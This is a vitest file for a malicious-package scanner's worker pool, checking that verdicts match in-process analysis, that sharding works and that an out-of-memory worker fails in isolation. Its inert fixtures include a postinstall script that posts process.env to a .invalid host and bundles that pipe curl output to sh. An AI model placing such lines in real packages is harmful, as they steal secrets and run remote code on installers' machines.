// The audit's worker-thread pool, from the compiled build (the pool only runs compiled code):
// same verdicts as in-process analysis, and a worker that dies fails only its own package.
import fs from 'node:fs';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import { describe, expect, test } from 'vitest';
import { analyzeTarball } from '../src/scan.js';
import { packTarball } from './helpers/registry.js';

const ROOT = path.resolve(import.meta.dirname, '..');
const compiled = path.join(ROOT, 'dist', 'src', 'audit', 'analysis-pool.js');

type PoolModule = typeof import('../src/audit/analysis-pool.js');
const loadPool = async (): Promise<PoolModule> => (await import(pathToFileURL(compiled).href)) as PoolModule;

const stealer = {
  'package.json': JSON.stringify({ name: 'grabber', version: '1.0.0', scripts: { postinstall: 'node s.js' } }),
  // Inert fixture: never run; the host is under .invalid.
  's.js': "require('https').request('https://collector.invalid/x', { method: 'POST' }).end(JSON.stringify(process.env));\n",
};
const tidy = { 'package.json': JSON.stringify({ name: 'tidy', version: '1.0.0' }), 'index.js': 'module.exports = (a, b) => a + b;\n' };

describe.skipIf(!fs.existsSync(compiled))('AnalysisPool (compiled)', () => {
  test('verdicts and findings match in-process analysis; bytes move to the worker', async () => {
    const { AnalysisPool } = await loadPool();
    const pool = AnalysisPool.create({ size: 2 })!;
    expect(pool).toBeDefined();
    try {
      for (const files of [stealer, tidy]) {
        const data = await packTarball(files);
        const local = await analyzeTarball({ data: Buffer.from(data), spec: 'x', source: 'file' });
        const sent = Buffer.from(data);
        const remote = await pool.analyze({ data: sent, spec: 'x', source: 'file' });
        expect(remote.verdict).toBe(local.verdict);
        expect(remote.score).toBe(local.score);
        expect(remote.findings.map((f) => `${f.rule}:${f.file}:${f.line}`)).toEqual(local.findings.map((f) => `${f.rule}:${f.file}:${f.line}`));
      }
      const results = await Promise.all([stealer, tidy, stealer, tidy].map(async (f) => (await pool.analyze({ data: await packTarball(f), spec: 'y' })).verdict));
      expect(results).toEqual(['malicious', 'clean', 'malicious', 'clean']);
    } finally {
      await pool.close();
    }
  });

  test('a package over the shard threshold is analyzed by both workers from shared memory, with the same result', async () => {
    const { AnalysisPool } = await loadPool();
    const pool = AnalysisPool.create({ size: 2 })!;
    try {
      const bundle = (i: number) => `/* ${'pad '.repeat(500 * (i + 1))} */\nrequire('child_process').exec('curl -s https://p${i}.invalid/x | sh');\n`;
      const big: Record<string, string> = { ...stealer, 'package.json': JSON.stringify({ name: 'grabber', version: '1.0.0', main: 'd0.js', scripts: { postinstall: 'node s.js' } }) };
      for (let i = 0; i < 6; i++) big[`d${i}.js`] = bundle(i);
      const engine = { ...(await import('../src/engine/run/analyze.js')).DEFAULT_ENGINE_OPTIONS, maxRetainedBytes: 2048 };
      const data = await packTarball(big);
      const local = await analyzeTarball({ data: Buffer.from(data), spec: 'g', source: 'file' }, { engine });
      // Threshold 0: every package is sharded.
      const sharded = await pool.analyze({ data: Buffer.from(data), spec: 'g', source: 'file' }, engine, 0);
      expect(sharded.verdict).toBe('malicious');
      expect(sharded.score).toBe(local.score);
      expect(sharded.reasons).toEqual(local.reasons);
      const keyOf = (f: { rule: string; file?: string; line?: number; message: string }) => `${f.rule}:${f.file}:${f.line}:${f.message}`;
      expect(sharded.findings.map(keyOf).sort()).toEqual(local.findings.map(keyOf).sort());
      expect(sharded.findings.filter((f) => /^d\d\.js$/.test(f.file ?? '')).length).toBeGreaterThanOrEqual(6);
    } finally {
      await pool.close();
    }
  });

  test('a worker that runs out of memory fails only its package; a fresh worker takes the next one', async () => {
    const { AnalysisPool } = await loadPool();
    const pool = AnalysisPool.create({ size: 2, heapMb: 64 })!;
    try {
      // ~3 MB of nested calls: its syntax tree alone outgrows a 64 MB heap.
      const big = { 'package.json': JSON.stringify({ name: 'big', version: '1.0.0' }), 'index.js': 'eval(x);\n' + 'f(a, [b, {c: d}]);\n'.repeat(180_000) };
      await expect(pool.analyze({ data: await packTarball(big), spec: 'big@1.0.0' })).rejects.toThrow(/analysis worker stopped while analyzing big@1\.0\.0/);
      const after = await pool.analyze({ data: await packTarball(tidy), spec: 'tidy@1.0.0' });
      expect(after.verdict).toBe('clean');
    } finally {
      await pool.close();
    }
  });
});
